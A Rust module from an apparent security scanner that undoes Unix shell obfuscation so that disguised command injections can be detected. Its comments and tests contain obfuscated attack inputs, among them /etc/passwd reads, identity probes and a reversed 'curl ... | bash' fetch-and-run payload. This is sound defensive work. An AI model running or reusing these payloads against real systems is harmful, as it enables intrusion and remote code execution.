//! Undoes Unix-shell obfuscation the way the shell itself would before running a word, so the
//! tokenizer in `shell_unix` sees `cat /etc/passwd` where the request held `c'a't${IFS}/e??/p?ss??`.
//!
//! The output is bytes plus a parallel `marks` vector: a byte is marked when an obfuscation step
//! (quote inside a word, `$IFS`, an empty expansion, a glob, a brace list, `rev`, base64...)
//! produced it or sits right after one. A command word that carries a mark was disguised on
//! purpose — nobody types `w\ho\am\i` — which is what lets such findings count at level 1 even
//! where plain command text would not.
//!
//! Every step is a single forward pass with bounded look-ahead; nothing backtracks.

use crate::shell_glob::resolve_globs;

/// De-obfuscated text and which of its bytes an obfuscation step touched.
pub struct Deobf {
    pub text: Vec<u8>,
    pub marks: Vec<bool>,
}

/// Values of the variables attackers slice with `${VAR:a:b}` (a default root shell).
const SHELL_VARS: &[(&str, &str)] = &[
    ("PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"),
    ("HOME", "/root"),
    ("SHELL", "/bin/bash"),
    ("PWD", "/"),
    ("OLDPWD", "/"),
];

fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'/' | b'.' | b'-')
}

fn is_ident(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

struct Out {
    text: Vec<u8>,
    marks: Vec<bool>,
    pending: bool,
    /// Variables the payload assigns itself (`a=c;b=at;$a$b`), read at the first `$name`.
    vars: Option<Vec<(Vec<u8>, Vec<u8>)>>,
}

impl Out {
    fn push(&mut self, b: u8) {
        self.text.push(b);
        self.marks.push(self.pending);
        self.pending = false;
    }
    fn push_marked(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.text.push(b);
            self.marks.push(true);
        }
        self.pending = false;
    }
    fn last(&self) -> u8 {
        self.text.last().copied().unwrap_or(b' ')
    }
    /// Marks the next byte when a removal happened inside a word.
    fn mark_if_in_word(&mut self, next: u8) {
        if is_word(self.last()) || is_word(next) {
            self.pending = true;
        }
    }
}

/// One pass: quotes, backslashes, `$` expansions, brace lists, `$(echo ...)`; then globs and
/// `echo ... | rev` / `| base64 -d` pipes over the result.
pub fn deobfuscate(input: &[u8]) -> Deobf {
    let mut out = Out { text: Vec::with_capacity(input.len()), marks: Vec::with_capacity(input.len()), pending: false, vars: None };
    pass(input, &mut out);
    let Out { text, marks, .. } = out;
    let (text, marks) = resolve_globs(text, marks);
    pipes(text, marks)
}

/// Quotes, backslashes, `$` expansions, brace lists and `$(echo ..)` of `input`, appended.
fn pass(input: &[u8], out: &mut Out) {
    let n = input.len();
    let mut i = 0;
    while i < n {
        let b = input[i];
        let next = input.get(i + 1).copied().unwrap_or(b' ');
        match b {
            b'\\' => {
                match next {
                    // Line continuation disappears.
                    b'\n' => {
                        out.mark_if_in_word(input.get(i + 2).copied().unwrap_or(b' '));
                        i += 2;
                    }
                    b'\r' if input.get(i + 2) == Some(&b'\n') => i += 3,
                    // Literal `\n` / `\r` as payload lists write a newline separator.
                    b'n' | b'r'
                        if !out.last().is_ascii_alphanumeric() && out.last() != b'/'
                            || input.get(i + 2).is_none_or(|c| c.is_ascii_whitespace() || b";|&`'\"".contains(c)) =>
                    {
                        out.push(b'\n');
                        i += 2;
                    }
                    b'\\' => {
                        out.push(b'\\');
                        i += 2;
                    }
                    _ => {
                        // `w\ho\am\i`: the shell drops the backslash and keeps the byte. Only
                        // before a letter or digit is that disguise; `\_`, `\*` are markdown.
                        if next.is_ascii_alphanumeric() {
                            out.mark_if_in_word(next);
                        }
                        i += 1;
                    }
                }
            }
            b'\'' | b'"' => {
                // Quotes group, they do not survive: `c'a't`, `p""y""t""h""o""n`.
                if is_word(out.last()) && is_word(next) || next == b || is_word(out.last()) && out.last() != b'/' {
                    out.pending = true;
                }
                i += 1;
            }
            b'$' => i = dollar(input, i, out),
            b'{' => i = brace_list(input, i, out),
            // ``` `` ``` glued into a word is an empty command substitution: `s``leep`.
            b'`' if next == b'`' && (is_word(out.last()) || input.get(i + 2).is_some_and(|&c| is_word(c))) => {
                out.mark_if_in_word(input.get(i + 2).copied().unwrap_or(b' '));
                i += 2;
            }
            b'`' if input[i + 1..].starts_with(b"echo ") && (command_prefix(out) || after_close_is_word_tick(&input[i + 1..])) => {
                i = echo_subst(input, i + 6, b'`', i, out)
            }
            _ => {
                out.push(b);
                i += 1;
            }
        }
    }
}

/// `$IFS`, `${IFS}`, `${IFS%??}`, `$@`, `$*`, `$1`, `$u` glued to a word, `${PATH:0:1}`,
/// `$(echo x)`; anything else is kept.
fn dollar(s: &[u8], i: usize, out: &mut Out) -> usize {
    let rest = &s[i + 1..];
    if rest.first().is_some_and(|&c| c.is_ascii_alphabetic() || c == b'_' || c == b'{') {
        let vars = out.vars.get_or_insert_with(|| if s.contains(&b'=') { crate::shell_expand::assignments(s) } else { Vec::new() });
        if let Some((value, used)) = crate::shell_expand::lookup(rest, vars) {
            let value = value.to_vec();
            out.push_marked(&value);
            return i + 1 + used;
        }
    }
    // `$IFS` (also glued to upper-case text, `$IFSXYZ`, as scanners send it).
    if rest.starts_with(b"IFS") && !rest.get(3).is_some_and(|&c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == b'_') {
        out.push_marked(b" ");
        return i + 4;
    }
    if rest.starts_with(b"{IFS") {
        if let Some(end) = rest.iter().take(16).position(|&c| c == b'}') {
            out.push_marked(b" ");
            return i + 2 + end;
        }
    }
    match rest.first().copied() {
        Some(b'@' | b'*' | b'1'..=b'9') => {
            out.mark_if_in_word(rest.get(1).copied().unwrap_or(b' '));
            return i + 2;
        }
        Some(b'0') => {
            out.push_marked(b"sh");
            return i + 2;
        }
        Some(b'\'') => {
            // `$'...'` ANSI-C quoting: `\xHH`, octal and `\u` escapes decoded.
            if let Some((bytes, end)) = crate::shell_expand::ansi_c(s, i + 2) {
                out.push_marked(&bytes);
                return end;
            }
            out.pending = true;
            return i + 1;
        }
        // `wh$()oami`: an empty substitution glued to a word expands to nothing.
        Some(b'(') if rest.get(1) == Some(&b')') && (is_word(out.last()) || rest.get(2).is_some_and(|&c| is_word(c))) => {
            out.mark_if_in_word(rest.get(2).copied().unwrap_or(b' '));
            return i + 3;
        }
        Some(b'(') if rest.starts_with(b"(printf ") => {
            if let Some((bytes, end)) = crate::shell_expand::printf_subst(s, i) {
                out.push_marked(&bytes);
                return end;
            }
        }
        // `who$(echo am)i`: only glued into a word; a free-standing `$(echo X)` is a command.
        Some(b'(') if rest.starts_with(b"(echo ") && (command_prefix(out) || after_close_is_word(rest)) => {
            return echo_subst(s, i + 7, b')', i, out)
        }
        Some(b'(') if rest.starts_with(b"((") => {
            // `$((16+69))` arithmetic: a probe whose result the attacker looks for.
            if let Some(len) = rest.iter().take(40).position(|&c| c == b')') {
                let inner = &rest[2..len];
                if rest.get(len + 1) == Some(&b')') && inner.iter().all(|c| c.is_ascii_digit() || b" +-*/%".contains(c)) {
                    out.push_marked(b"0");
                    return i + 3 + len;
                }
            }
        }
        Some(b'{') => {
            if let Some(len) = rest.iter().take(40).position(|&c| c == b'}') {
                let inner = &rest[1..len];
                if inner.len() == 1 && matches!(inner[0], b'@' | b'*' | b'1'..=b'9') {
                    out.mark_if_in_word(s.get(i + 2 + len).copied().unwrap_or(b' '));
                    return i + 2 + len;
                }
                if let Some(value) = substring(inner) {
                    out.push_marked(value);
                    return i + 2 + len;
                }
                // `c${u}at`, `${x}id`: an unset variable glued to a word expands to nothing, and
                // so does a case change of it or of the empty argument list (`${x,,}id`, `${@~}id`).
                let glued = is_word(out.last()) || s.get(i + 2 + len).is_some_and(|&c| is_word(c));
                let name = without_case_change(inner);
                if glued && name.len() < inner.len() && matches!(name, b"@" | b"*") {
                    out.pending = true;
                    return i + 2 + len;
                }
                if glued
                    && (1..=8).contains(&name.len())
                    && name.iter().all(|&c| is_ident(c))
                    && !name.first().is_some_and(u8::is_ascii_digit)
                {
                    out.pending = true;
                    return i + 2 + len;
                }
            }
        }
        Some(c) if c.is_ascii_lowercase() && is_word(out.last()) => {
            // `cat$u`, `/bin$u/bash`: an unset variable glued inside a word expands to nothing.
            let len = rest.iter().take_while(|&&c| is_ident(c)).count();
            if len <= 3 {
                out.pending = true;
                return i + 1 + len;
            }
        }
        _ => {}
    }
    out.push(b'$');
    i + 1
}

/// `inner` of `${inner}` without a trailing Bash case-modification operator (`,,` `,` `^^` `^`
/// `~~` `~`).
fn without_case_change(inner: &[u8]) -> &[u8] {
    let ops = inner.iter().rev().take(2).take_while(|&&c| matches!(c, b',' | b'^' | b'~')).count();
    &inner[..inner.len() - ops]
}

/// The word being built ends in the first letters of a known command (`who` of `whoami`), so
/// an `$(echo ..)` glued to it completes a command word rather than decorating data.
fn command_prefix(out: &Out) -> bool {
    let len = out.text.iter().rev().take(16).take_while(|&&c| c.is_ascii_alphanumeric() || c == b'/').count();
    let part = &out.text[out.text.len() - len..];
    let part = part.rsplit(|&c| c == b'/').next().unwrap_or(part);
    !part.is_empty() && crate::shell_commands::command_names().any(|n| n.len() > part.len() && n.as_bytes().starts_with(part))
}

fn after_close_is_word_tick(rest: &[u8]) -> bool {
    rest.iter().take(80).position(|&c| c == b'`').and_then(|p| rest.get(p + 1)).is_some_and(|&c| is_word(c) && c != b'/')
}

fn after_close_is_word(rest: &[u8]) -> bool {
    rest.iter().take(80).position(|&c| c == b')').and_then(|p| rest.get(p + 1)).is_some_and(|&c| is_word(c) && c != b'/')
}

/// `VAR:a:b` / `VAR:a` of a known variable → its substring.
fn substring(inner: &[u8]) -> Option<&'static [u8]> {
    let mut parts = inner.split(|&c| c == b':');
    let name = parts.next()?;
    let value = SHELL_VARS.iter().find(|(n, _)| n.as_bytes() == name)?.1.as_bytes();
    let start: usize = std::str::from_utf8(parts.next()?).ok()?.trim().parse().ok()?;
    let len: usize = match parts.next() {
        Some(l) => std::str::from_utf8(l).ok()?.trim().parse().ok()?,
        None => value.len(),
    };
    let start = start.min(value.len());
    Some(&value[start..(start + len).min(value.len())])
}

/// `$(echo who)` / `` `echo am` `` → the echoed words (quotes dropped), so `who$(echo am)i` is
/// `whoami`. `start` is the first byte after `echo `; `close` ends the substitution.
fn echo_subst(s: &[u8], start: usize, close: u8, at: usize, out: &mut Out) -> usize {
    let body = &s[start.min(s.len())..];
    match body.iter().take(80).position(|&c| c == close) {
        Some(len) if !body[..len].iter().any(|&c| matches!(c, b'|' | b';' | b'(' | b'`' | b'$')) => {
            let words: Vec<u8> = body[..len].iter().copied().filter(|&c| c != b'\'' && c != b'"').collect();
            out.push_marked(words.trim_ascii());
            start + len + 1
        }
        _ => {
            out.push(s[at]);
            at + 1
        }
    }
}

/// `{cat,/etc/passwd}` → `cat /etc/passwd`: a brace list with a comma, no spaces, no quotes or
/// colons (so a JSON object is never one).
fn brace_list(s: &[u8], i: usize, out: &mut Out) -> usize {
    let rest = &s[i + 1..];
    if let Some(len) = closing_brace(rest) {
        let inner = &rest[..len];
        let newline_ok = inner.iter().enumerate().all(|(k, &c)| c != b'\n' || k > 0 && inner[k - 1] == b'\\');
        let json_key = inner.windows(2).any(|w| matches!(w, b"\":" | b"':"));
        // No blank outside a `$(...)` inside the list.
        let mut depth = 0usize;
        let blank_outside = inner.iter().any(|&c| {
            match c {
                b'(' => depth += 1,
                b')' => depth = depth.saturating_sub(1),
                _ => {}
            }
            depth == 0 && matches!(c, b' ' | b'\t' | b'=' | b';')
        });
        let plain = newline_ok && !json_key && !blank_outside;
        if plain && inner.contains(&b',') && inner.first().is_some_and(|&c| c.is_ascii_lowercase() || c == b'/' || c == b'\'' || c == b'"')
        {
            for (k, part) in inner.split(|&c| c == b',').enumerate() {
                if k > 0 {
                    out.push_marked(b" ");
                }
                // Each item is a shell word of its own (quotes, `$@`, backslashes inside).
                let mut item = Out { text: Vec::new(), marks: Vec::new(), pending: false, vars: None };
                pass(part, &mut item);
                out.push_marked(&item.text);
            }
            return i + 2 + len;
        }
    }
    out.push(b'{');
    i + 1
}

/// Index of the `}` closing a brace list, skipping `${...}` inside it.
fn closing_brace(rest: &[u8]) -> Option<usize> {
    let mut depth = 0;
    for (k, &c) in rest.iter().enumerate().take(120) {
        match c {
            b'{' if k > 0 && rest[k - 1] == b'$' => depth += 1,
            b'{' => return None,
            b'}' if depth > 0 => depth -= 1,
            b'}' => return Some(k),
            _ => {}
        }
    }
    None
}

/// `echo WORD | rev` → WORD reversed; `echo B64 | base64 -d` (or `--decode`, `-D`) → the
/// decoded text when printable. The replaced span is marked.
fn pipes(text: Vec<u8>, marks: Vec<bool>) -> Deobf {
    if !text.contains(&b'|') {
        return Deobf { text, marks };
    }
    let mut out = Vec::with_capacity(text.len());
    let mut out_marks = Vec::with_capacity(text.len());
    let mut i = 0;
    while i < text.len() {
        if text[i..].starts_with(b"echo ") && (i == 0 || !is_word(text[i - 1])) {
            if let Some((replacement, len)) = echo_pipe(&text[i + 5..]) {
                out_marks.extend(std::iter::repeat_n(true, replacement.len()));
                out.extend_from_slice(&replacement);
                i += 5 + len;
                continue;
            }
        }
        out.push(text[i]);
        out_marks.push(marks[i]);
        i += 1;
    }
    Deobf { text: out, marks: out_marks }
}

fn echo_pipe(s: &[u8]) -> Option<(Vec<u8>, usize)> {
    let mut k = s.iter().take_while(|&&c| c == b' ').count();
    // An optional `-n` / `-e` flag.
    if s[k..].starts_with(b"-n ") || s[k..].starts_with(b"-e ") {
        k += 3;
    }
    // `echo a b | rev` prints its words joined by one space: the argument runs to the pipe.
    let arg_len = s[k..].iter().take(4096).take_while(|&&c| !matches!(c, b'|' | b';' | b'\n' | b'&')).count();
    let arg = s[k..k + arg_len].trim_ascii_end();
    let mut j = k + arg_len;
    j += s[j..].iter().take_while(|&&c| c == b' ').count();
    if s.get(j) != Some(&b'|') || arg.is_empty() {
        return quoted_rev(s, k);
    }
    j += 1;
    j += s[j..].iter().take_while(|&&c| c == b' ').count();
    let tail = &s[j..];
    if tail.starts_with(b"rev") && !tail.get(3).is_some_and(|&c| is_word(c)) {
        return Some((arg.iter().rev().copied().collect(), j + 3));
    }
    if let Some(found) = quoted_rev(s, k) {
        return Some(found);
    }
    for flag in [&b"base64 -d"[..], b"base64 --decode", b"base64 -D"] {
        if tail.starts_with(flag) {
            // The decoded text is shell again: undo its own obfuscation too.
            let decoded = base64_decode(arg)?;
            return Some((deobfuscate(&decoded).text, j + flag.len()));
        }
    }
    None
}

/// `echo '<reversed pipeline>' | rev`: the quotes are gone by now, so the reversed text may
/// hold `|`, `;` or `&` of its own; the argument then runs to the first `| rev` that closes
/// the line or a substitution (bounded look-ahead).
fn quoted_rev(s: &[u8], k: usize) -> Option<(Vec<u8>, usize)> {
    let window = &s[k..s.len().min(k + 1024)];
    let mut at = 0;
    while let Some(p) = window[at..].iter().position(|&c| c == b'|') {
        let pipe = at + p;
        let after = &window[pipe + 1..];
        let blanks = after.iter().take_while(|&&c| c == b' ').count();
        let tail = &after[blanks..];
        if tail.starts_with(b"rev") && tail.get(3).is_none_or(|&c| matches!(c, b')' | b'`' | b';' | b'&' | b'|' | b'\n' | b' ')) {
            let arg = window[..pipe].trim_ascii();
            return (!arg.is_empty()).then(|| (arg.iter().rev().copied().collect(), k + pipe + 1 + blanks + 3));
        }
        at = pipe + 1;
    }
    None
}

/// Standard or URL-safe base64 to printable ASCII text; `None` when it is not.
pub fn base64_decode(s: &[u8]) -> Option<Vec<u8>> {
    let out = crate::base64::decode(s)?;
    let printable = out.iter().all(|&c| c == b'\n' || c == b'\t' || (0x20..0x7f).contains(&c));
    (printable && !out.is_empty()).then_some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn d(s: &str) -> String {
        String::from_utf8(deobfuscate(s.as_bytes()).text).unwrap()
    }

    #[test]
    fn shell_forms() {
        assert_eq!(d("c'a't /etc/passwd"), "cat /etc/passwd");
        assert_eq!(d("p\"\"y\"\"t\"\"h\"\"o\"\"n -c x"), "python -c x");
        assert_eq!(d("w\\ho\\am\\i"), "whoami");
        assert_eq!(d("cat${IFS}/etc/passwd"), "cat /etc/passwd");
        assert_eq!(d("cat$IFS$9/etc/passwd"), "cat /etc/passwd");
        assert_eq!(d("{cat,/etc/passwd}"), "cat /etc/passwd");
        assert_eq!(d("/???/??t /???/p??s??"), "/bin/cat /etc/passwd");
        assert_eq!(d("cat /etc/[m-z]asswd"), "cat /etc/passwd");
        assert_eq!(d("cat ${PATH:0:1}etc${PATH:0:1}passwd"), "cat /etc/passwd");
        assert_eq!(d("cat $(echo dwssap/cte/ | rev)"), "cat $(/etc/passwd)");
        assert_eq!(d("echo aWQ= | base64 -d | sh"), "id | sh");
        assert_eq!(d("who$(echo am)i"), "whoami");
        assert_eq!(d("1;$(echo 'rns- emanu'|rev)"), "1;$(uname -snr)");
        assert_eq!(d("s``leep 2``0"), "sleep 20");
        assert_eq!(d("1;$(echo 'hsab | hs.s/9.311.0.302//:ptth lruc'|rev)"), "1;$(curl http://203.0.113.9/s.sh | bash)");
        assert_eq!(d("wh$()oami"), "whoami");
        assert_eq!(d("cat$u /etc$u/passwd"), "cat /etc/passwd");
        assert_eq!(d(";${x,,}id"), ";id");
        assert_eq!(d(";${@~}id"), ";id");
        assert_eq!(d("w${u^^}get x"), "wget x");
        let alone = d("${name,,}");
        assert!(alone.contains("name"), "alone it is a variable, not an empty word: {alone}");
    }
}
